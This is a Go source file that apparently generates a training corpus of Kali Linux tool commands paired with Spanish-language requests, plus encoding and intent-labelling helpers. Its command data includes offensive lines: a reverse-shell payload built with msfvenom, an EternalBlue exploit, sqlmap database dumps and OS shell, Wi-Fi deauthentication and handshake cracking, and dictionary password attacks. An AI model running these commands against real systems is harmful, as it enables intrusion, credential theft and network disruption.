package corpus

import (
	"fmt"
	"strings"
)

// KaliVariationsPerCommand is how many natural-language phrasings the
// generator produces for each authentic command.
const KaliVariationsPerCommand = 15

// KaliTools returns the built-in security tool corpus: eight tools with
// five verified commands each.
func KaliTools() []Tool {
	return []Tool{
		{
			Name:        "nmap",
			Package:     "nmap",
			Category:    "information_gathering",
			Description: "Network discovery and security auditing",
			Commands: []Command{
				{Cmd: "nmap -sS -O 192.168.1.0/24", Desc: "SYN scan with OS detection"},
				{Cmd: "nmap -sV -sC 192.168.1.100", Desc: "Version and script scan"},
				{Cmd: "nmap -p- --min-rate 1000 192.168.1.100", Desc: "Fast full port scan"},
				{Cmd: "nmap --script vuln 192.168.1.100", Desc: "Vulnerability scan"},
				{Cmd: "nmap -sU -p 53,161,162 192.168.1.100", Desc: "UDP scan specific ports"},
			},
		},
		{
			Name:        "metasploit",
			Package:     "metasploit-framework",
			Category:    "exploitation",
			Description: "Advanced penetration testing framework",
			Commands: []Command{
				{Cmd: "msfconsole", Desc: "Start Metasploit console"},
				{Cmd: "msfvenom -p windows/meterpreter/reverse_tcp LHOST=192.168.1.1 LPORT=4444 -f exe > shell.exe", Desc: "Generate Windows payload"},
				{Cmd: "search type:exploit platform:windows", Desc: "Search Windows exploits"},
				{Cmd: "use exploit/windows/smb/ms17_010_eternalblue", Desc: "Use EternalBlue exploit"},
				{Cmd: "set RHOSTS 192.168.1.100", Desc: "Set target host"},
			},
		},
		{
			Name:        "burpsuite",
			Package:     "burpsuite",
			Category:    "web_applications",
			Description: "Web application security testing",
			Commands: []Command{
				{Cmd: "burpsuite", Desc: "Start Burp Suite"},
				{Cmd: "burpsuite --config-file=project.json", Desc: "Load project configuration"},
				{Cmd: "java -jar -Xmx2g burpsuite_community.jar", Desc: "Start with 2GB memory"},
				{Cmd: "burpsuite --project-file=test.burp", Desc: "Open existing project"},
				{Cmd: "burpsuite --display-settings", Desc: "Show display settings"},
			},
		},
		{
			Name:        "wireshark",
			Package:     "wireshark",
			Category:    "sniffing_spoofing",
			Description: "Network protocol analyzer",
			Commands: []Command{
				{Cmd: "wireshark", Desc: "Start Wireshark GUI"},
				{Cmd: "tshark -i eth0 -w capture.pcap", Desc: "Capture packets to file"},
				{Cmd: "tshark -r capture.pcap -Y 'http.request.method == \"POST\"'", Desc: "Filter HTTP POST requests"},
				{Cmd: "tshark -i eth0 -f 'port 80'", Desc: "Live capture HTTP traffic"},
				{Cmd: "capinfos capture.pcap", Desc: "Display capture file info"},
			},
		},
		{
			Name:        "sqlmap",
			Package:     "sqlmap",
			Category:    "web_applications",
			Description: "Automatic SQL injection and database takeover",
			Commands: []Command{
				{Cmd: "sqlmap -u 'http://target.com/page.php?id=1' --dbs", Desc: "Enumerate databases"},
				{Cmd: "sqlmap -u 'http://target.com/page.php?id=1' -D testdb --tables", Desc: "Enumerate tables"},
				{Cmd: "sqlmap -u 'http://target.com/page.php?id=1' -D testdb -T users --dump", Desc: "Dump table data"},
				{Cmd: "sqlmap -r request.txt --batch", Desc: "Test from saved request"},
				{Cmd: "sqlmap -u 'http://target.com/page.php?id=1' --os-shell", Desc: "Get OS shell"},
			},
		},
		{
			Name:        "nikto",
			Package:     "nikto",
			Category:    "web_applications",
			Description: "Web server scanner",
			Commands: []Command{
				{Cmd: "nikto -h http://target.com", Desc: "Basic web scan"},
				{Cmd: "nikto -h http://target.com -p 80,443,8080", Desc: "Scan specific ports"},
				{Cmd: "nikto -h http://target.com -o results.html -Format html", Desc: "Save results as HTML"},
				{Cmd: "nikto -h http://target.com -Tuning 1,2,3", Desc: "Custom tuning options"},
				{Cmd: "nikto -h http://target.com -useragent 'Custom Agent'", Desc: "Custom user agent"},
			},
		},
		{
			Name:        "john",
			Package:     "john",
			Category:    "password_attacks",
			Description: "John the Ripper password cracker",
			Commands: []Command{
				{Cmd: "john --wordlist=/usr/share/wordlists/rockyou.txt hashes.txt", Desc: "Dictionary attack"},
				{Cmd: "john --incremental hashes.txt", Desc: "Incremental brute force"},
				{Cmd: "john --show hashes.txt", Desc: "Show cracked passwords"},
				{Cmd: "john --format=NT hashes.txt", Desc: "Crack NTLM hashes"},
				{Cmd: "john --rules --wordlist=wordlist.txt hashes.txt", Desc: "Apply word mangling rules"},
			},
		},
		{
			Name:        "aircrack-ng",
			Package:     "aircrack-ng",
			Category:    "wireless_attacks",
			Description: "Wireless network security assessment suite",
			Commands: []Command{
				{Cmd: "airmon-ng start wlan0", Desc: "Enable monitor mode"},
				{Cmd: "airodump-ng wlan0mon", Desc: "Capture wireless frames"},
				{Cmd: "airodump-ng -c 6 --bssid AA:BB:CC:DD:EE:FF -w capture wlan0mon", Desc: "Capture handshake on channel"},
				{Cmd: "aireplay-ng --deauth 10 -a AA:BB:CC:DD:EE:FF wlan0mon", Desc: "Send deauthentication frames"},
				{Cmd: "aircrack-ng -w /usr/share/wordlists/rockyou.txt capture-01.cap", Desc: "Crack captured handshake"},
			},
		},
	}
}

// kaliToolBonus biases the int8 encoding per tool so identical characters
// from different tools land in distinct ranges. Unlisted tools get 0.
var kaliToolBonus = map[string]int{
	"metasploit": 50,
	"nmap":       40,
	"wireshark":  35,
	"burpsuite":  30,
	"sqlmap":     25,
	"nikto":      20,
	"john":       15,
	"wordlists":  10,
}

// KaliEncodeInt8 encodes a command to the fixed-width security int8 form:
// per-character ord mod 256 with the tool bonus and syntax offsets applied,
// zero-padded to 32 values.
func KaliEncodeInt8(cmd, toolName string) []int {
	bonus := kaliToolBonus[toolName]
	encoded := make([]int, 0, 32)

	for _, r := range cmd {
		if len(encoded) == 32 {
			break
		}
		v := int(r) % 256
		switch {
		case r == '-' || r == '=':
			v = (v + bonus + 20) % 256
		case r == '/' || r == ':' || r == '.':
			v = (v + bonus + 15) % 256
		case r == '@' || r == '#' || r == '$':
			v = (v + bonus + 10) % 256
		default:
			v = (v + bonus) % 256
		}
		encoded = append(encoded, v)
	}
	for len(encoded) < 32 {
		encoded = append(encoded, 0)
	}
	return encoded
}

var kaliSemanticTypes = map[string]string{
	"password_attacks":      "credential_attack",
	"exploitation":          "system_exploitation",
	"information_gathering": "reconnaissance",
	"sniffing_spoofing":     "network_analysis",
	"web_applications":      "web_security_testing",
}

// KaliSemanticType maps a tool category to its semantic label.
func KaliSemanticType(category string) string {
	if t, ok := kaliSemanticTypes[category]; ok {
		return t
	}
	return "security_operation"
}

// KaliIntent classifies what a command is trying to accomplish.
func KaliIntent(toolName, cmd string) string {
	switch {
	case strings.Contains(cmd, "scan") || strings.Contains(toolName, "nmap"):
		return "network_scanning"
	case strings.Contains(cmd, "exploit") || strings.Contains(toolName, "metasploit"):
		return "exploitation"
	case strings.Contains(cmd, "crack") || strings.Contains(toolName, "john"):
		return "password_cracking"
	case strings.Contains(cmd, "sql") || strings.Contains(toolName, "sqlmap"):
		return "sql_injection"
	case strings.Contains(cmd, "capture") || strings.Contains(toolName, "wireshark"):
		return "traffic_analysis"
	default:
		return "security_testing"
	}
}

var kaliAliases = map[string][]string{
	"metasploit":  {"msf", "framework", "exploit"},
	"nmap":        {"network mapper", "port scanner"},
	"wireshark":   {"packet analyzer", "sniffer"},
	"burpsuite":   {"burp", "web proxy"},
	"sqlmap":      {"sql injection", "database"},
	"nikto":       {"web scanner"},
	"john":        {"john the ripper", "password cracker"},
	"aircrack-ng": {"aircrack", "wifi cracker", "wireless audit"},
	"wordlists":   {"dictionary", "passwords"},
}

// KaliAliases returns the known aliases of a tool.
func KaliAliases(toolName string) []string {
	return kaliAliases[toolName]
}

var kaliPurposes = map[string]string{
	"metasploit":  "Exploitation and post-exploitation framework",
	"nmap":        "Network discovery and security auditing",
	"wireshark":   "Network protocol analysis and troubleshooting",
	"burpsuite":   "Web application security testing",
	"sqlmap":      "Automatic SQL injection testing",
	"nikto":       "Web server vulnerability scanning",
	"john":        "Password strength testing and recovery",
	"aircrack-ng": "Wireless network security assessment",
	"wordlists":   "Password attack dictionary support",
}

// KaliPurpose describes what a tool is for.
func KaliPurpose(toolName, category string) string {
	if p, ok := kaliPurposes[toolName]; ok {
		return p
	}
	return fmt.Sprintf("Security testing for %s", category)
}

// KaliNaturalInput phrases a request for a tool in Spanish. There are ten
// phrasings; the variation index cycles through them.
func KaliNaturalInput(toolName, desc, category string, variation int) string {
	templates := []string{
		fmt.Sprintf("cómo usar %s para %s", toolName, strings.ToLower(desc)),
		fmt.Sprintf("comando %s para seguridad", toolName),
		fmt.Sprintf("ejemplo de %s en pentesting", toolName),
		fmt.Sprintf("tutorial %s kali linux", toolName),
		fmt.Sprintf("uso de %s en auditoría", toolName),
		fmt.Sprintf("técnica con %s", toolName),
		fmt.Sprintf("sintaxis %s", toolName),
		fmt.Sprintf("guía %s para %s", toolName, category),
		fmt.Sprintf("herramienta %s explicación", toolName),
		fmt.Sprintf("manual %s kali", toolName),
	}
	return templates[variation%len(templates)]
}

// KaliFuzzyVariants returns the command spellings accepted as equivalent.
func KaliFuzzyVariants(cmd, toolName string) []string {
	return []string{
		cmd,
		strings.ReplaceAll(cmd, "-", "--"),
		strings.ToLower(cmd),
		toolName,
		strings.ToUpper(toolName),
	}
}
